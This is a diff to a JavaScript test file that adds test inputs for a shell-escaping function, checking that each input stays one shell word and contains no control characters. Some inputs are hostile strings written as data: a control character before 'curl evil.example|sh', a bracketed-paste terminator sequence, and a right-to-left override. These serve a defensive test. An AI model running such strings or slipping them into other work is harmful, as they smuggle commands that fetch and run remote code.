@@ -15,7 +15,13 @@ test.each([
   'a b\nc',
   '-- --help',
   '',
-])('security: %j is one word of a command in a shell', async (text) => {
+  'a\u0003curl evil.example|sh',
+  '\u001b[201~id',
+  "it's \u0007 \\0101 %s",
+  'id \u202e#',
+  'a\u2028b',
+])('security: %j is one word of a command in a shell, and pastes as text', async (text) => {
+  expect(shellWord(text)).not.toMatch(/[\p{C}\u2028]/u)
   const words = await $`sh -c ${`printf '%s|' ${shellWord(text)}`}`.text()
   expect(words).toBe(`${text}|`)
 })
